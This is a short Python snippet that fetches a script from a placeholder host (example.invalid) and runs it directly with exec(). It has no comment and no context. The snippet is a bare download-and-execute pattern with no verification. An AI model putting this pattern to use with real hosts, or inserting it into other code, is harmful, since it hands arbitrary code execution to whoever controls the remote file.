import urllib.request

text = urllib.request.urlopen("https://example.invalid/x.py").read()
exec(text)
